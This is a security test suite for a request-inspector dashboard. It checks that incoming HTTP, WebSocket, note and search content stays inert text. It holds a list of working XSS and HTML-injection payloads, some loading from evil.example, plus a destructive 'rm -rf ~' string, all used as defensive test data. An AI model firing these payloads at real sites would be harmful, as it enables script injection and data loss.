// What strangers send is looked at in the inspector, and stays text: nothing of it becomes an element, runs, or loads.

import assert from "node:assert/strict";

import { api } from "../support/dashboard.mjs";
import { request } from "../support/http.mjs";
import { exchange, inspected, row } from "../support/inspector.mjs";
import { scenario } from "../support/stage.mjs";

/** Each would set `evil`, open a dialog, load something, or at least leave an element behind. */
const PAYLOADS = [
  "<script data-evil>globalThis.evil = 1</script>",
  "<img data-evil src=x onerror='globalThis.evil = 1'>",
  '"><svg data-evil onload="alert(1)">',
  "'><details data-evil open ontoggle=alert(1)>",
  "</pre><script data-evil src=//evil.example/x.js></script>",
  "</textarea><iframe data-evil srcdoc='<script>parent.evil = 1</script>'></iframe>",
  "</title></head><body data-evil onload=alert(1)>",
  "</script><script data-evil>evil = 1</script>",
  "<!--><img data-evil src onerror=alert(1)>-->",
  "<a data-evil href='javascript:globalThis.evil=1'>click</a>",
  "<form data-evil action=//evil.example><button data-evil>Delete</button></form>",
  "<meta data-evil http-equiv=refresh content='0;url=//evil.example'>",
  "<link data-evil rel=stylesheet href=//evil.example/x.css>",
  "<base data-evil href=//evil.example/>",
  "<style data-evil>* { background: url(//evil.example/x.png) }</style>",
  "<object data-evil data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed data-evil src='data:text/html,<script>alert(1)</script>'>",
  "<video data-evil><source onerror=alert(1) src=x></video>",
  "<math data-evil><mtext><script>evil = 1</script></mtext></math>",
  "<template data-evil><script>evil = 1</script></template>",
  "<leptos-island data-evil data-component='Desk_0' data-props='{}'></leptos-island>",
  "<input data-evil autofocus onfocus=alert(1)>",
  "<button data-evil data-copy='rm -rf ~'>Copy</button>",
  "<section data-evil id=exchange>mine</section>",
  "{{constructor.constructor('globalThis.evil = 1')()}}<b data-evil>",
  "\u202E<i data-evil>gnp.exe\u202C",
  "&lt;b data-evil&gt; &#60;b data-evil&#62; <b data-evil>",
  "<svg xmlns='http://www.w3.org/2000/svg' data-evil><script>alert(1)</script></svg>",
  "<?xml version='1.0'?><x:script data-evil xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<marquee data-evil onstart=alert(1)>\\u003cscript\\u003ealert(1)\\u003c/script\\u003e</marquee>",
];

/** Where a payload goes in the answer, in turn: type of the body, and the body. */
const BODIES = [
  (text) => ["text/html", text],
  (text) => ["application/json", JSON.stringify({ [text]: [text, { ["__proto__"]: text }] })],
  (text) => ["image/svg+xml", text],
  (text) => ["image/png", text],
  (text) => ["text/event-stream", `event: ${text}\ndata: ${text}\n\n`],
  (text) => [`text/plain; charset="${ascii(text)}"`, `${text}\n`.repeat(3)],
  (text) => ["application/octet-stream", `\0${text}`],
  (text) => ["application/x-www-form-urlencoded", `${encodeURIComponent(text)}=${encodeURIComponent(text)}`],
];

/** What may stand in a header. */
function ascii(text) {
  return text.replaceAll(/[^ -~]/g, "?").replaceAll('"', "'");
}

scenario("what strangers send stays text", async (stage, context) => {
  const answers = Object.fromEntries(
    PAYLOADS.map((text, n) => {
      const [type, body] = BODIES[n % BODIES.length](text);
      const headers = {
        "x-answer": ascii(text),
        "content-disposition": `attachment; filename="${ascii(text)}"`,
        link: `<${ascii(text)}>; rel=preload; as=script`,
        refresh: "0;url=//evil.example",
      };
      return [`/p${n}`, [type, body, headers, 200 + (n % 5)]];
    }),
  );
  const page = await stage.browser.visitor();
  const asked = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", (dialog) => {
    asked.push(`a dialog: ${dialog.message()}`);
    dialog.dismiss();
  });
  const shop = await inspected(stage, page, answers);
  try {
    await page.goto(shop.path);
    await page.getByText("Live", { exact: true }).waitFor();
    for (const [n, text] of PAYLOADS.entries()) {
      const address = `${shop.url}/p${n}?${encodeURIComponent(text)}=${encodeURIComponent(text)}&raw=${ascii(text).replaceAll(/[ #%\\^`{|}"]/g, "")}`;
      const type = n % 2 ? "application/json" : "application/x-www-form-urlencoded";
      const body = n % 2 ? JSON.stringify({ [text]: text }) : `a=${encodeURIComponent(text)}`;
      const headers = { "content-type": type, "x-payload": ascii(text), "user-agent": ascii(text), referer: ascii(text), "x-'-!#$&*+.^_`|~": ascii(text) };
      await request(address, { method: "POST", headers, body });
    }
    const visitor = await stage.browser.elsewhere(page);
    await visitor.goto(`${shop.url}/`);
    await visitor.evaluate(
      (payloads) =>
        new Promise((resolve) => {
          const socket = new WebSocket(`ws://${location.host}/chat?${encodeURIComponent(payloads[0])}`);
          let left = payloads.length + 1;
          socket.onopen = () => payloads.forEach((text) => socket.send(text));
          socket.onmessage = () => (left -= 1) === 0 && socket.close(1000, payloads[1].slice(0, 100));
          socket.onclose = resolve;
        }),
      PAYLOADS,
    );
    await row(page, "/chat").waitFor();
    await harmless(page, "the list");
    await page.locator(".request-list").evaluate((list) => (list.scrollTop = list.scrollHeight));
    await row(page, "/p0?").waitFor();
    await harmless(page, "the end of the list");

    const listed = await page.evaluate((of) => fetch(`/web/data/requests?of=${of}`).then((answer) => answer.json()), `tunnel:${shop.id}`);
    const links = listed.items.map(({ id, method, path }) => [`${shop.path}?selected=${id}`, `${method} ${path.slice(0, 60)}`]);
    assert.ok(links.length >= PAYLOADS.length + 1, `${links.length} rows`);
    let looks = 0;
    for (const [n, [href, name]] of links.entries()) {
      await page.goto(href);
      await exchange(page).getByRole("heading", { name: "Response" }).waitFor();
      await harmless(page, name);
      await page.getByText("Live", { exact: true }).waitFor();
      await page.evaluate(`globalThis.become = ${become}`);
      const views = await page.evaluate(everyView);
      for (const [view, report] of views) assert.deepEqual(report, CLEAN, `${name}: ${view}`);
      looks += views.length;
      if (n > 0 && n % 3 === 0) {
        const other = new URL(links[n - 1][0], stage.origin).searchParams.get("selected");
        await page.goto(`${href}&compare=${other}`);
        await exchange(page).getByRole("heading", { name: "Comparison" }).waitFor();
        await harmless(page, `${name}, compared`);
      }
    }
    // A note, and something looked for.
    await page.goto(links[0][0]);
    await exchange(page).getByText("Write a note").click();
    await exchange(page).getByLabel("Note").fill(PAYLOADS.join("\n").slice(0, 2_000));
    await exchange(page).getByRole("button", { name: "Save the note" }).click();
    await exchange(page).locator("p.note").waitFor();
    await harmless(page, "the note");
    await page.goto(`${links[0][0]}&find=${encodeURIComponent(PAYLOADS[0])}`);
    await harmless(page, "what is looked for");
    await page.goto(`${shop.path}?q=${encodeURIComponent(PAYLOADS[1])}`);
    await harmless(page, "the search");

    const foreign = asked.filter((url) => !/^https?:\/\/localhost:\d+\/(web\b|pkg\/|$)/.test(url) && !url.startsWith("data:"));
    assert.deepEqual(foreign, [], "nothing else was asked for");
    context.diagnostic(`${links.length} requests, ${looks} views of bodies`);
  } finally {
    shop.close();
  }
});

scenario("what names and forms hold stays text", async (stage) => {
  const page = await stage.browser.visitor();
  const shop = await inspected(stage, page);
  try {
    const call = await api(stage.origin);
    for (const [end, payload] of [["title", PAYLOADS[1]], ["textarea", PAYLOADS[11]]]) {
      const name = `</${end}>${payload}`.slice(0, 64);
      await call("PATCH", `/tunnels/${shop.id}`, { name });
      const refused = new URLSearchParams({ form: "settings", error: "invalid", field: "custom_domains", custom_domains: name });
      for (const path of [shop.path, `/web/tunnels/${shop.id}?${refused}`]) {
        await page.goto(path);
        const { exchanges, ...report } = await page.evaluate(become);
        assert.deepEqual(report, { evil: false, elements: [], handlers: 0, scripted: 0 }, `${path}, ${exchanges}`);
        assert.ok((await page.title()).includes(name), "it is shown as it is");
      }
      assert.equal(await page.getByLabel("Custom domains").inputValue(), name);
    }
  } finally {
    shop.close();
  }
});

const CLEAN = { evil: false, elements: [], handlers: 0, exchanges: 1, scripted: 0 };

async function harmless(page, where) {
  assert.deepEqual(await page.evaluate(become), CLEAN, where);
}

/** What a page has become; runs in it. */
function become() {
  const all = [...document.querySelectorAll("*")];
  const leads = (element) => element.getAttribute("href") ?? element.getAttribute("action") ?? "";
  return {
    evil: "evil" in globalThis,
    elements: all.filter((element) => element.hasAttribute("data-evil")).map((element) => element.outerHTML.slice(0, 100)),
    handlers: all.filter((element) => [...element.attributes].some(({ name }) => name.startsWith("on"))).length,
    exchanges: document.querySelectorAll("#exchange").length,
    scripted: all.filter((element) => /^\s*(javascript|data):/i.test(leads(element)) && element.localName !== "link").length,
  };
}

/** Chooses each view of both bodies, one after the other; runs in the page. */
async function everyView() {
  const link = (side, index) => document.querySelectorAll(`nav[aria-label="Views of the ${side}'s body"] a`)[index];
  const reports = [];
  for (const side of ["request", "response"]) {
    for (let index = 0; link(side, index); index += 1) {
      const view = link(side, index).textContent.trim();
      const isShown = () =>
        link(side, index)?.getAttribute("aria-current") === "true" && location.search.includes(`${side}=${view.toLowerCase()}`);
      link(side, index).click();
      while (!isShown()) await new Promise((done) => setTimeout(done, 5));
      reports.push([`${side} as ${view}`, globalThis.become()]);
    }
  }
  return reports;
}
